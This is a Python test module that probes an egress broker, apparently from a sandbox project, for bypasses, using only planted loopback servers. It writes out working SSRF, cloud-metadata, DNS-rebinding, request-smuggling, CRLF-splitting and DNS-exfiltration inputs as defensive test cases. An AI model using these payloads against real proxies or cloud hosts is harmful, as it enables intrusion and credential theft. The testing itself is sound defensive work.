"""Getting past the egress broker: what it should refuse, asked for in every way that is known.

Every address here is pretended: whatever a name or an address leads to, the connection goes to a
planted server on the host's loopback, or nowhere. For the control a plain forward proxy stands in
the broker's place, which does what it is told. Receipts are what the planted servers received.
"""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import json
import re
import secrets
import socket
import ssl
import threading
from collections.abc import Awaitable, Callable, Coroutine, Sequence
from dataclasses import dataclass, field
from functools import partial
from typing import Any, ClassVar, Literal, TypeVar
from urllib.parse import unquote, urlsplit

import anyio

from custodes.types import JsonObject

from .._broker import Broker
from .._broker_policy import AllowRule, EgressPolicy
from .._broker_upstream import Credential, Streams, Upstream
from .._spec import SandboxError
from ._model import (
    Canaries,
    Family,
    Ground,
    Place,
    Probe,
    Report,
    Sight,
    Untested,
    interpreter,
    probe,
)
from ._places import HostPlace, SandboxPlace

_T = TypeVar("_T")

# Addresses for documentation (RFC 5737): they belong to nobody, and are never connected to.
_ROLES = {
    "203.0.113.10": "service",
    "203.0.113.11": "keyed",
    "203.0.113.12": "front",
    "203.0.113.66": "other",
}
_NAMES = {
    "service.example": "203.0.113.10",
    "keyed.example": "203.0.113.11",
    "front.example": "203.0.113.12",
    "inside.example": "127.0.0.1",
    "linked.example": "169.254.169.254",
    "mapped.example": "::ffff:10.0.0.5",
}
_POLICY = EgressPolicy(
    allow=(
        AllowRule(
            host="service.example",
            port=80,
            methods=frozenset({"GET", "POST"}),
            path_prefix="/v1",
        ),
        AllowRule(host="keyed.example", port=80, path_prefix="/v1"),
        AllowRule(host="front.example", port=443, methods=frozenset({"CONNECT"})),
        *(
            AllowRule(host=f"{name}.example", port=80, path_prefix="/v1")
            for name in ("rebound", "inside", "linked", "mapped")
        ),
    ),
    connect_allowed=True,
    networks=("203.0.113.0/24",),
    head_timeout_ms=2000,
    idle_timeout_ms=2000,
    request_timeout_ms=4000,
)
_IDLE_S = 1.0
_CLIENT = """
import json, socket, sys
told = json.load(sys.stdin)
replies = {}
for name, connections in told["plans"].items():
    got = replies[name] = []
    for port, steps in connections:
        data = b""
        try:
            with socket.create_connection(("127.0.0.1", port or told["port"]), 2) as client:
                for step in steps[:-1]:
                    client.sendall(step.encode("latin-1"))
                    while b"\\r\\n\\r\\n" not in data:
                        part = client.recv(65536)
                        if not part:
                            break
                        data += part
                client.sendall(steps[-1].encode("latin-1"))
                if told["leave"] not in steps[-1]:
                    while part := client.recv(65536):
                        data += part
        except OSError:
            pass
        got.append(data[:65536].decode("latin-1"))
json.dump(replies, sys.stdout)
"""


@dataclass(slots=True, kw_only=True)
class _Seen:
    """One connection that a planted server accepted."""

    role: str
    raw: bytearray = field(default_factory=bytearray)
    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    """Method, target and headers of each request that a lenient server reads out of it."""

    def holds(self, word: str) -> bool:
        return word.encode() in self.raw


class _Way:
    """The servers, what stands before them, and what came of all plans. One for a ground."""

    def __init__(self, ground: Ground) -> None:
        self.plans: dict[str, list[tuple[int, list[str]]]] = {}
        self.secret = ground.token()
        self.works = ground.token()
        self.leave = ground.token()
        """In a request: the client leaves without waiting for the answer."""
        self.seen: list[_Seen] = []
        self.asked: list[str] = []
        self.recorded: list[JsonObject] = []
        self._ports: dict[str, int] = {}
        self._replies: dict[str, list[str]] | None = None
        self._trouble = ""
        self._ground = ground
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(
            target=self._loop.run_forever, name="egress probes", daemon=True
        )
        self._thread.start()
        ground.keep(self._stop)
        self.direct = self._call(self._serve_all())

    def _call(self, coroutine: Coroutine[Any, Any, _T]) -> _T:
        return asyncio.run_coroutine_threadsafe(coroutine, self._loop).result(30)

    def _stop(self) -> None:
        async def end() -> None:
            tasks = [task for task in asyncio.all_tasks() if task is not asyncio.current_task()]
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

        self._call(end())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(30)
        self._loop.close()

    # -- planted servers ---------------------------------------------------------------------------

    async def _serve_all(self) -> int:
        for role in ("service", "keyed", "front", "other", "inner"):
            self._ports[role] = await self._listen(partial(self._serve, role))
        return self._ports["service"]

    async def _listen(
        self, serve: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
    ) -> int:
        server = await asyncio.start_server(serve, "127.0.0.1", 0)
        self._ground.keep(lambda: self._loop.call_soon_threadsafe(server.close))
        port: int = server.sockets[0].getsockname()[1]
        return port

    async def _serve(
        self, role: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """Take everything that comes, then read requests out of it leniently, and answer each."""
        seen = _Seen(role=role)
        self.seen.append(seen)
        read = 0
        try:
            while True:
                part = await asyncio.wait_for(reader.read(65536), _IDLE_S)
                if not part:
                    break
                seen.raw += part
                if seen.raw.startswith(b"\x16"):  # TLS: nothing more is needed
                    return
                while (end := _request_end(bytes(seen.raw), read)) is not None:
                    method, target, headers = _lenient_head(bytes(seen.raw[read:end]))
                    seen.requests.append((method, target, headers))
                    read = end
                    writer.write(self._answer(target, headers))
                    await writer.drain()
                    if headers.get("connection", "").lower() == "close":
                        return
        except (TimeoutError, OSError):
            pass
        finally:
            writer.close()

    def _answer(self, target: str, headers: dict[str, str]) -> bytes:
        status, more, body = "200 OK", "", b"ok"
        if "/redirect/" in target:
            word = target.rpartition("/")[2]
            status, more = "302 Found", f"Location: http://other.example/{word}\r\n"
        elif "/echo/" in target:
            shown = headers.get("authorization", "").encode()
            body = {
                "plain": shown,
                "base64": base64.b64encode(shown),
                "hex": shown.hex().encode(),
            }.get(target.rpartition("/")[2], b"")
        return f"HTTP/1.1 {status}\r\n{more}Content-Length: {len(body)}\r\n\r\n".encode() + body

    # -- the way to them ---------------------------------------------------------------------------

    async def _resolve(self, host: str, port: int) -> Sequence[str]:
        self.asked.append(host)
        if host == "rebound.example":
            return ["203.0.113.10" if self.asked.count(host) == 1 else "127.0.0.1"]
        return [_NAMES.get(host, "203.0.113.66")]

    async def _dial(
        self, address: str, port: int, tls: ssl.SSLContext | None, name: str | None
    ) -> Streams:
        role = _ROLES.get(address)
        if role is None:
            found = ipaddress.ip_address(address)
            found = getattr(found, "ipv4_mapped", None) or found
            if not (found.is_loopback or found.is_private or found.is_link_local):
                raise OSError("nothing leaves the machine")
            role = "inner"
        return await asyncio.open_connection("127.0.0.1", self._ports[role])

    async def _broker(self, listener: int) -> None:
        broker = Broker(
            handlers={},
            policy=_POLICY,
            record=lambda kind, data: self.recorded.append({"kind": kind, **data}),
            upstream=Upstream(
                resolve=self._resolve,
                dial=self._dial,
                credentials={"keyed.example": Credential(value=f"Bearer {self.secret}", tls=False)},
            ),
        )
        await broker.serve(listener)
        self._ground.keep(lambda: self._call(broker.close()))

    async def _plain_proxy(self) -> int:
        proxy = _PlainProxy(self._resolve, self._dial, f"Bearer {self.secret}")
        return await self._listen(proxy.carry)

    async def _port(self, place: Place) -> int:
        """Where the way out begins, at the place."""
        if isinstance(place, SandboxPlace):
            reason = ""
            for _ in range(50):
                port = 20000 + secrets.randbelow(12000)
                try:
                    listener = await place.sandbox.listen(port)
                except OSError as error:
                    reason = str(error)
                    continue
                self._call(self._broker(listener))
                return port
            raise Untested(f"the broker got no port: {reason}")
        if isinstance(place, HostPlace):
            return self._call(self._plain_proxy())
        raise Untested("the broker of Custodes does not stand before this place")

    async def replies(self, place: Place, name: str) -> list[str]:
        """Carry out all plans, the first time; what one of them was answered.

        Raises:
            Untested: there is no way out here, or it does not carry what is permitted.
        """
        if self._replies is None and not self._trouble:
            try:
                self._replies = await self._carry_out(place)
            except (Untested, TimeoutError, OSError, SandboxError) as error:
                self._trouble = str(error) or type(error).__name__
        if self._replies is None:
            raise Untested(self._trouble)
        return self._replies.get(name, [])

    async def _carry_out(self, place: Place) -> dict[str, list[str]]:
        target = f"http://service.example/v1/{self.works}"
        told = {
            "port": await self._port(place),
            "leave": self.leave,
            "plans": {"works": [(0, [_get(target)])], **self.plans},
        }
        ran = await place.run(
            [interpreter(), "-I", "-S", "-c", _CLIENT],
            input=json.dumps(told).encode(),
            timeout=20,
            output_limit=4 << 20,
        )
        try:
            replies: dict[str, list[str]] = json.loads(ran.stdout)
        except ValueError:
            said = ran.stderr.decode("utf-8", "replace").strip().rpartition("\n")[2]
            raise Untested(f"the client failed: {said}") from None
        if not any(seen.holds(self.works) for seen in self.seen):
            raise Untested("the way out did not carry what is permitted")
        return replies


def _request_end(raw: bytes, start: int) -> int | None:
    """Where a lenient server sees the end of the request that begins there."""
    end = raw.find(b"\r\n\r\n", start)
    if end < 0:
        return None
    _, _, headers = _lenient_head(raw[start:end])
    body = end + 4
    if "chunked" in headers.get("transfer-encoding", "").lower():
        last = re.compile(rb"(?:\A|\r\n)0+\r\n\r\n").search(raw, body - 2)
        return None if last is None else last.end()
    try:
        length = int(headers.get("content-length", "0"))
    except ValueError:
        length = 0
    return body + length if len(raw) >= body + length else None


def _lenient_head(raw: bytes) -> tuple[str, str, dict[str, str]]:
    first, *lines = raw.decode("latin-1").lstrip("\r\n").split("\n")
    words = first.split()
    headers = {}
    for line in lines:
        key, _, value = line.partition(":")
        headers[key.strip().lower()] = value.strip()
    return (words[0] if words else "", words[1] if len(words) > 1 else "", headers)


class _PlainProxy:
    """A forward proxy that does what it is told: the control."""

    def __init__(self, resolve: Any, dial: Any, key: str) -> None:
        self._resolve = resolve
        self._dial = dial
        self._key = key

    async def _open(self, host: str, port: int) -> Streams:
        host = host.strip("[]")
        try:
            address = socket.inet_ntoa(socket.inet_aton(host))
        except OSError:
            try:
                address = str(ipaddress.IPv6Address(host))
            except ValueError:
                address = (await self._resolve(host.lower().rstrip("."), port))[-1]
        streams: Streams = await self._dial(address, port, None, None)
        return streams

    async def carry(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 2)
            method, target, headers = _lenient_head(head)
            if method == "CONNECT":
                host, _, port = target.rpartition(":")
                there = await self._open(host, int(port))
                writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
                await self._relay(reader, writer, there)
                return
            answer = await self._fetch(reader, head, method, target, headers)
            found = re.search(rb"\r\nLocation: (\S+)\r\n", answer)
            if found is not None:
                target = found[1].decode("latin-1")
                headers["host"] = urlsplit(target).netloc
                answer = await self._fetch(None, head, method, target, headers)
            writer.write(answer)
            await writer.drain()
        except (OSError, EOFError, ValueError, TimeoutError):
            pass
        finally:
            writer.close()

    async def _fetch(
        self,
        reader: asyncio.StreamReader | None,
        head: bytes,
        method: str,
        target: str,
        headers: dict[str, str],
    ) -> bytes:
        parts = re.match(r"\w+://([^/]*)(.*)", target, re.DOTALL)
        path = parts[2] if parts is not None else target
        authority = headers.get("host") or (parts[1] if parts is not None else "")
        authority = authority.rpartition("@")[2]
        found = re.match(r"(\[[^\]]*\]|[^:]*):?(\d*)", authority)
        assert found is not None
        there = await self._open(found[1], int(found[2] or 80))
        lines = head.partition(b"\r\n")[2]
        if found[1] == "keyed.example" and "authorization" not in headers:
            headers["authorization"] = self._key
            lines = f"Authorization: {self._key}\r\n".encode() + lines
        elif reader is None and "authorization" in headers:
            lines = f"Authorization: {headers['authorization']}\r\n".encode() + lines
        there[1].write(f"{method} {unquote(path)} HTTP/1.1\r\n".encode("latin-1") + lines)
        return await self._pass_on(reader, there)

    async def _pass_on(self, reader: asyncio.StreamReader | None, there: Streams) -> bytes:
        """Send what else the client has, and take everything that comes back."""

        async def send() -> None:
            while reader is not None and (part := await reader.read(65536)):
                there[1].write(part)

        sending = asyncio.create_task(send())
        try:
            return await asyncio.wait_for(there[0].read(), 2)
        finally:
            sending.cancel()
            there[1].close()

    async def _relay(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, there: Streams
    ) -> None:
        writer.write(await self._pass_on(reader, there))
        await writer.drain()


def _get(target: str, *headers: str, host: str | None = None, method: str = "GET") -> str:
    """A request in absolute form, as a client sends it to a proxy."""
    if host is None:
        found = re.match(r"\w+://([^/]*)", target)
        host = found[1] if found is not None else "service.example"
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", *headers, "Connection: close"]
    return "\r\n".join(lines) + "\r\n\r\n"


class _Egress(Probe):
    """Have something carried that the policy does not permit."""

    family = Family.NETWORK
    receipt: ClassVar[Literal["host", "self"]] = "host"

    def requests(self, word: str) -> list[str | list[str]]:
        """What is sent, each on a connection of its own; a list: the rest once that is answered."""
        raise NotImplementedError

    def plant(self, ground: Ground) -> Canaries:
        self.word = ground.token()
        self.way = ground.shared(_Way)
        self.way.plans[self.name] = self.connections()
        return {}

    def connections(self) -> list[tuple[int, list[str]]]:
        """Port (0: the proxy's) and steps of each connection."""
        found = self.requests(self.word)
        return [(0, [each] if isinstance(each, str) else each) for each in found]

    async def drive(self, place: Place) -> None:
        self.replies = await self.way.replies(place, self.name)

    def reached(self) -> bool:
        """By default: any planted server received the word."""
        return any(seen.holds(self.word) for seen in self.way.seen)

    async def verdict(self, report: Report) -> Sight:
        if self.reached():
            return Sight(reached=True, detail="a planted server received it")
        return Sight(reached=False, detail="no planted server received it")

    def arrived(self, role: str) -> bool:
        return any(seen.role == role and seen.holds(self.word) for seen in self.way.seen)

    def asked_for(self, target: str) -> bool:
        """Whether a server read that out as the target of a request."""
        found = [each for seen in self.way.seen for _, each, _ in seen.requests]
        return any(each.startswith(target) for each in found)


@probe
class UnlistedHost(_Egress):
    """Ask the broker for a host that is not listed."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_get(f"http://other.example/v1/{word}"), _get(f"http://OTHER.example./v1/{word}")]


@probe
class LookAlikeHosts(_Egress):
    """Ask the broker for hosts whose names look like a listed one."""

    def requests(self, word: str) -> list[str | list[str]]:
        hosts = (
            "service.example.other.example",
            "sub.service.example",
            "xservice.example",
            "service.example-other.example",
            "service.exampl",
            "other.example%00.service.example",
            "other.example%23.service.example",
            "service%2eexample.other.example",
        )
        return [_get(f"http://{host}/v1/{word}") for host in hosts]

    def reached(self) -> bool:
        return self.arrived("other")


@probe
class UnlistedPort(_Egress):
    """Ask the broker for another port of a listed host."""

    def requests(self, word: str) -> list[str | list[str]]:
        ports = ("22", "8080", "443", "65616", "+8080")
        return [_get(f"http://service.example:{port}/v1/{word}") for port in ports]


@probe
class UnlistedPath(_Egress):
    """Ask the broker for another path of a listed host, plainly and by ways around."""

    def requests(self, word: str) -> list[str | list[str]]:
        paths = (
            "/admin/",
            "/v1/../admin/",
            "/v1/%2e%2e/admin/",
            "/v1/..%2fadmin/",
            "/v1/.%2e%2fadmin/",
            "//admin/",
            "/v1\\..\\admin/",
            "/v1/..;/admin/",
            "/v1x/",
            "/V1/",
        )
        return [_get(f"http://service.example{path}{word}") for path in paths]


@probe
class UnlistedMethod(_Egress):
    """Ask the broker for a method that is not listed."""

    def requests(self, word: str) -> list[str | list[str]]:
        methods = ("DELETE", "PUT", "TRACE", "delete", "get")
        target = f"http://service.example/v1/{word}"
        return [_get(target, method=method) for method in methods]


@probe
class HostMismatch(_Egress):
    """Name a listed host in the request line and another one in the Host header."""

    def requests(self, word: str) -> list[str | list[str]]:
        target = f"http://service.example/v1/{word}"
        return [
            _get(target, host="other.example"),
            _get(target, "Host: other.example"),
            _get(f"/v1/{word}", host="other.example"),
            _get(target, "Host : other.example"),
        ]

    def reached(self) -> bool:
        return self.arrived("other") or any(
            headers.get("host") != "service.example"
            for seen in self.way.seen
            for _, target, headers in seen.requests
            if self.word in target
        )


@probe
class UserInformation(_Egress):
    """Hide the host that is meant behind a listed one as its user."""

    def requests(self, word: str) -> list[str | list[str]]:
        authorities = (
            "service.example@other.example",
            "service.example:80@other.example",
            "service.example%40@other.example",
            "service.example#@other.example",
        )
        return [_get(f"http://{authority}/v1/{word}") for authority in authorities]


@probe
class AddressSpellings(_Egress):
    """Ask the broker for the host's own loopback, in every spelling of its address."""

    _hosts: Sequence[str] = (
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "017700000001",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "0",
    )

    def requests(self, word: str) -> list[str | list[str]]:
        return [_get(f"http://{host}/v1/{word}") for host in self._hosts]


@probe
class MetadataAddress(AddressSpellings):
    """Ask the broker for the address where clouds tell a machine its credentials."""

    _hosts = (
        "169.254.169.254",
        "169.254.169.254:80",
        "2852039166",
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
    )


@probe
class NamePointsInside(_Egress):
    """Have a listed name lead to an address of the host, its network, or a cloud's metadata."""

    def requests(self, word: str) -> list[str | list[str]]:
        names = ("inside", "linked", "mapped")
        return [_get(f"http://{name}.example/v1/{word}") for name in names]


@probe
class Rebinding(_Egress):
    """Have a listed name lead to a public address first, and to the host afterwards."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_get(f"http://rebound.example/v1/{word}")] * 3

    def reached(self) -> bool:
        return self.arrived("inner")


@probe
class FollowedRedirect(_Egress):
    """Have the broker follow a redirect to a host that is not listed."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_get(f"http://service.example/v1/redirect/{word}")]

    def reached(self) -> bool:
        return self.arrived("other")


def _tunnel(host: str, port: int, then: str) -> list[str]:
    return [f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n", then]


@probe
class TunnelToHost(_Egress):
    """Open a tunnel to a host that is not listed, or to one listed for other methods."""

    def requests(self, word: str) -> list[str | list[str]]:
        hosts = (("other.example", 443), ("service.example", 80), ("front.example", 22))
        return [_tunnel(host, port, _get(f"/{word}")) for host, port in hosts]


@probe
class TunnelToAddress(_Egress):
    """Open a tunnel to an address instead of a name."""

    def requests(self, word: str) -> list[str | list[str]]:
        hosts = ("203.0.113.12", "127.0.0.1", "[::1]", "[::ffff:203.0.113.12]", "2130706433")
        return [_tunnel(host, 443, _hello("front.example") + word) for host in hosts]


@probe
class PlainTunnel(_Egress):
    """Speak plainly in a tunnel that was opened for an encrypted connection."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_tunnel("front.example", 443, _get(f"/{word}"))]


def _hello(name: str) -> str:
    """How a TLS client begins that means a host of that name."""
    arriving, leaving = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(arriving, leaving, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return leaving.read().decode("latin-1")


@probe
class FrontedTunnel(_Egress):
    """Open a tunnel to a listed host, and mean another one behind the same front end (TLS SNI)."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_tunnel("front.example", 443, _hello(f"{word}.other.example"))]


@probe
class SmuggledRequest(_Egress):
    """Smuggle a second request, for a path that is not listed, in the body of a permitted one."""

    def requests(self, word: str) -> list[str | list[str]]:
        second = _get(f"/admin/{word}")
        body = f"0\r\n\r\n{second}"
        target = "http://service.example/v1/submit"
        framings = (
            ("Transfer-Encoding: chunked",),
            ("Transfer-Encoding : chunked",),
            ("Transfer-Encoding: xchunked",),
            ("Transfer-Encoding: identity, chunked",),
            ("Transfer-Encoding:\tchunked",),
            ("X: y\nTransfer-Encoding: chunked",),
        )
        out: list[str | list[str]] = []
        for framing in framings:
            lines = [f"POST {target} HTTP/1.1", "Host: service.example", *framing]
            lines.append(f"Content-Length: {len(body)}")
            out.append("\r\n".join(lines) + f"\r\n\r\n{body}")
        lines = [f"POST {target} HTTP/1.1", "Host: service.example"]
        lines += [f"Content-Length: {len(second)}", "Content-Length: 0"]
        out.append("\r\n".join(lines) + f"\r\n\r\n{second}")
        return out

    def reached(self) -> bool:
        return self.asked_for(f"/admin/{self.word}")


@probe
class SplitRequest(_Egress):
    """Split one request into two, by ends of lines hidden in its path and headers."""

    def requests(self, word: str) -> list[str | list[str]]:
        end = "%20HTTP/1.1%0d%0aHost:%20service.example%0d%0a%0d%0a"
        hidden = f"{end}GET%20/admin/{word}"
        plain = f"a\nHost: service.example\n\nGET /admin/{word} HTTP/1.1\nHost: service.example"
        target = "http://service.example/v1/x"
        return [
            _get(target + hidden),
            _get(f"{target}?q={hidden}"),
            _get(target, f"X-Note: {plain}"),
            _get(target, f"X-Note: {plain}".replace("\n", "\r")),
        ]

    def reached(self) -> bool:
        return self.asked_for(f"/admin/{self.word}")


@probe
class UpgradedConnection(_Egress):
    """Have the connection upgraded, and send requests of one's own behind it."""

    def requests(self, word: str) -> list[str | list[str]]:
        second = _get(f"/admin/{word}")
        return [
            _get(f"http://service.example/v1/x?{number}", *headers).replace(
                "Connection: close", "Connection: Upgrade"
            )
            + second
            for number, headers in enumerate(
                (
                    ("Upgrade: websocket", "Sec-WebSocket-Version: 13"),
                    ("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
                )
            )
        ]

    def reached(self) -> bool:
        return self.asked_for(f"/admin/{self.word}")


@probe
class LookupLeak(_Egress):
    """Carry a word out in the name of a host that is not listed, which need only be looked up."""

    def requests(self, word: str) -> list[str | list[str]]:
        host = f"{word}.other.example"
        return [_get(f"http://{host}/"), _tunnel(host, 443, _get("/"))]

    def reached(self) -> bool:
        return any(self.word in name for name in self.way.asked)

    async def verdict(self, report: Report) -> Sight:
        if self.reached():
            return Sight(reached=True, detail="the name server was asked for it")
        return Sight(reached=False, detail="the name server was not asked for it")


@probe
class UnrecordedRequest(_Egress):
    """Have something carried and leave before it is recorded."""

    def requests(self, word: str) -> list[str | list[str]]:
        target = f"http://service.example/v1/{word}"
        return [_get(target, f"X-Leave: {self.way.leave}")]

    def reached(self) -> bool:
        kept = any(self.word in str(entry.get("path")) for entry in self.way.recorded)
        return super().reached() and not kept

    async def verdict(self, report: Report) -> Sight:
        for _ in range(60):  # what is under way is recorded when it has ended
            if not self.way.recorded or not self.reached():
                break
            await anyio.sleep(0.05)
        if self.reached():
            return Sight(reached=True, detail="a planted server received it, unrecorded")
        return Sight(reached=False, detail="whatever was received is in the record")


@probe
class ReflectedCredential(_Egress):
    """Have a listed service show the credential that the broker adds, plain or encoded."""

    receipt = "self"

    def requests(self, word: str) -> list[str | list[str]]:
        forms = ("plain", "base64", "hex")
        return [_get(f"http://keyed.example/v1/echo/{form}") for form in forms]

    def reached(self) -> bool:
        value = f"Bearer {self.way.secret}".encode()
        forms = (self.way.secret, base64.b64encode(value).decode(), value.hex())
        return any(form in reply for reply in self.replies for form in forms)

    async def verdict(self, report: Report) -> Sight:
        if self.reached():
            return Sight(reached=True, detail="the credential came back")
        return Sight(reached=False, detail="the credential did not come back")


@probe
class ReplacedCredential(_Egress):
    """Use a credential of one's own with a service that the broker has one for."""

    def requests(self, word: str) -> list[str | list[str]]:
        target = "http://keyed.example/v1/x"
        return [
            _get(target, f"Authorization: Bearer {word}"),
            _get(target, f"authorization: Bearer {word}", f"X-Api-Key: {word}"),
            _get(target, f"Cookie: session={word}"),
        ]


@probe
class RedirectedCredential(_Egress):
    """Have the broker take its credential along to another host, by a redirect."""

    def requests(self, word: str) -> list[str | list[str]]:
        return [_get(f"http://keyed.example/v1/redirect/{word}")]

    def reached(self) -> bool:
        return any(seen.role != "keyed" and seen.holds(self.way.secret) for seen in self.way.seen)


@probe
class DirectConnection(_Egress):
    """Connect to a listed service past the broker."""

    def connections(self) -> list[tuple[int, list[str]]]:
        return [(self.way.direct, [_get(f"/v1/{self.word}")])]
